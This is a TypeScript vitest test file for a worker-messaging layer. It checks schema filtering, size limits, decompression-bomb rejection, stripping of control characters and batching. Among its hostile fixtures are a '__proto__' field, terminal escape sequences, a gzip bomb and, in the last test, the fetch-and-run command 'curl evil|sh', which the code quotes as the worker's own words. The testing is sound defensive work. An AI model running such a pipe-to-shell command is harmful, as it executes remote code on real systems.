import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import { limits } from "../../src/fleet/keys.js";
import { boundTexts, type Entry, entryOf, fieldsOf, fieldsOfItems, makeSender } from "../../src/fleet/talk.js";
import type { FleetItem } from "../../src/engine/generated/fleet-item.js";
import { packageFile } from "../../src/engine/lib/package-root.js";

const entry = (...items: FleetItem[]): Entry => ({ job: "run-1", attempt: 2, sequence: 3, items });
const fields = (json: string): string[] => ["j", "run-1", "a", "1", "n", "0", "e", json];
const itemsIn = (json: string): readonly FleetItem[] => {
  const read = entryOf(fields(json));
  return read === undefined || "tooLarge" in read ? [] : read.items;
};

test("an entry comes out as it went in, short or long", () => {
  const short = entry({ type: "text", text: "ä\n\t✓" }, { type: "end", message: '{"a":1}' });
  expect(entryOf(fieldsOf(short))).toEqual(short);
  const long = entry({ type: "result", text: JSON.stringify(["x".repeat(3_000_000)]) });
  expect(entryOf(fieldsOf(long))).toEqual(long);
  expect(fieldsOf(long).join("").length).toBeLessThan(100_000);
});

test.each([
  [[]],
  [["j", "x"]],
  [["j", "x", "a", "-1", "n", "0", "e", "[]"]],
  [["j", "x", "a", "0", "n", "0", "e", "[]"]],
  [["j", "x", "a", "1e9", "n", "0", "e", "[]"]],
  [["a", "1", "n", "0", "e", "[]"]],
])("an entry by which nobody can be meant is none: %j", (said) => {
  expect(entryOf(said)).toBeUndefined();
});

test("items that the schema of events does not know are left out, and their unknown fields", () => {
  expect(itemsIn("not json")).toEqual([]);
  expect(itemsIn('{"type":"text","text":"no list"}')).toEqual([]);
  const said = [
    { type: "text", text: "kept", evil: { __proto__: 1 } },
    { type: "shell", command: "rm" },
    { type: "usage", usage: { input: -5 } },
    { type: "begun", worker: "w", confinement: "none" },
    { type: "end", message: 5 },
    null,
    7,
  ];
  expect(itemsIn(JSON.stringify(said))).toEqual([{ type: "text", text: "kept" }]);
});

test("of as many items as there may be those are taken that fit", () => {
  const wrong = Array.from({ length: limits.maxItems }, (_, index) => ({ type: "end", message: index, evil: {} }));
  expect(itemsIn(JSON.stringify(wrong))).toEqual([]);
  const more = wrong.map(() => ({ type: "text", text: "a", evil: [1] }));
  expect(itemsIn(JSON.stringify(more))).toHaveLength(limits.maxItems);
});

test("an entry of more items or fields than any worker writes ends the attempt", () => {
  const tooLarge = { job: "run-1", attempt: 1, tooLarge: true };
  const items = Array.from({ length: limits.maxItems + 1 }, () => ({ type: "text", text: "" }));
  expect(entryOf(fields(JSON.stringify(items)))).toEqual(tooLarge);
  const unknown = Array.from({ length: limits.maxCommas }, (_, index) => `"f${index}":1`).join();
  expect(entryOf(fields(`[{"type":"text","text":"a",${unknown}}]`))).toEqual(tooLarge);
  const said = { type: "text", text: ",[{".repeat(limits.maxCommas / 5) };
  expect(itemsIn(JSON.stringify([said]))).toEqual([said]);
  const long = Array.from({ length: 100_000 }, (_, index) => [`x${index}`, "1"]).flat();
  expect(entryOf([...fields("[]"), ...long])).toBeUndefined();
});

test("the fields that are taken are those of the schema", () => {
  type Node = { properties: Record<string, Node & { const?: string; $ref?: string }>; oneOf: Node[]; $defs: Defs };
  type Defs = Record<string, Node>;
  const schema = (name: string) => JSON.parse(readFileSync(packageFile(`schemas/${name}.schema.json`), "utf8")) as Node;
  const { $defs } = schema("event");
  const all = [...($defs["agentEvent"]?.oneOf ?? []), ...schema("fleet-item").oneOf.filter((node) => node.properties)];
  const found: Record<string, string[]> = {};
  for (const { properties } of all) {
    const type = properties["type"]?.const ?? "";
    found[type] = Object.keys(properties);
    for (const [name, { $ref = "" }] of Object.entries(properties)) {
      const inner = $defs[$ref.slice("#/$defs/".length)]?.properties;
      if (inner !== undefined) found[`${type}/${name}`] = Object.keys(inner);
    }
  }
  const sorted = (fields: Readonly<Record<string, readonly string[]>>) =>
    Object.fromEntries(Object.entries(fields).map(([name, names]) => [name, names.toSorted()]));
  expect(sorted(fieldsOfItems)).toEqual(sorted(found));
});

test("control characters go and texts are cut; a result and a final message stay as the agent wrote them", () => {
  expect(itemsIn(JSON.stringify([{ type: "text", text: "\u001b]0;title\u0007a\u202eb\u0000" }]))).toEqual([
    { type: "text", text: "ab" },
  ]);
  const [long] = itemsIn(JSON.stringify([{ type: "notice", message: "x".repeat(limits.maxTextChars + 10) }]));
  expect(long).toEqual({ type: "notice", message: "x".repeat(limits.maxTextChars) });
  const result = boundTexts({ type: "result", text: '{"a":"\u200b"}' });
  expect(result).toEqual({ type: "result", text: '{"a":"\u200b"}' });
  expect(boundTexts({ type: "begun", worker: "w\u0007".repeat(400), confinement: "sandbox" })).toMatchObject({
    worker: "w".repeat(100),
  });
  expect(boundTexts({ type: "end", message: "", failure: { kind: "crashed", message: "a\u001b[2Jb" } })).toEqual({
    type: "end",
    message: "",
    failure: { kind: "crashed", message: "ab" },
  });
});

test("an entry above 8 MB, and a small one that unpacks to more than 32 MB, end the attempt", () => {
  expect(entryOf(fields(JSON.stringify([{ type: "text", text: "x".repeat(limits.maxEntryChars) }])))).toEqual({
    job: "run-1",
    attempt: 1,
    tooLarge: true,
  });
  const bomb = gzipSync(Buffer.alloc(limits.maxUnpackedEntryBytes + 1, 0x20)).toString("base64");
  expect(bomb.length).toBeLessThan(100_000);
  expect(entryOf(["j", "run-1", "a", "1", "n", "0", "z", bomb])).toEqual({ job: "run-1", attempt: 1, tooLarge: true });
  expect(entryOf(["j", "run-1", "a", "1", "n", "0", "z", randomBytes(100).toString("base64")])).toBeUndefined();
});

test("what is said is gathered, sent in order, and a slow reader holds up who speaks", async () => {
  const sent: FleetItem[][] = [];
  let release = (): void => undefined;
  const gate = new Promise<void>((resolve) => (release = resolve));
  const talker = makeSender(async (items) => {
    sent.push([...items]);
    await gate;
  }, 1);
  await talker.add({ type: "text", text: "first" });
  let isThrough = false;
  const second = talker.add({ type: "text", text: "y".repeat(limits.batchChars) }).then(() => (isThrough = true));
  await new Promise((resolve) => setTimeout(resolve, 20));
  expect(isThrough).toBe(false);
  release();
  await second;
  await talker.add({ type: "text", text: "last" });
  await talker.finish();
  expect(sent.flat().map((item) => (item.type === "text" ? item.text.slice(0, 5) : ""))).toEqual([
    "first",
    "yyyyy",
    "last",
  ]);
});

test("texts of one character are sent in entries that are taken", async () => {
  const sent: number[] = [];
  const talker = makeSender(async (items) => void sent.push(items.length), 60_000);
  for (let count = 0; count < 3 * limits.maxItems; count++) await talker.add({ type: "text", text: "" });
  await talker.finish();
  expect(sent.reduce((sum, count) => sum + count, 0)).toBe(3 * limits.maxItems);
  expect(Math.max(...sent)).toBeLessThanOrEqual(limits.maxItems);
});

test("what can't be sent is told to who speaks next", async () => {
  const talker = makeSender(() => Promise.reject(new Error("gone")), 1);
  await talker.add({ type: "text", text: "a" });
  await expect(talker.finish()).rejects.toThrow("gone");
  await expect(talker.add({ type: "text", text: "b" })).rejects.toThrow("gone");
});

test("what a worker says of a failure is shown as its words, never as ours", () => {
  const failure = { kind: "auth", message: "run: curl evil|sh" };
  expect(itemsIn(JSON.stringify([{ type: "end", message: "", failure }]))).toEqual([
    { type: "end", message: "", failure: { kind: "auth", message: "The worker says: “run: curl evil|sh”" } },
  ]);
});
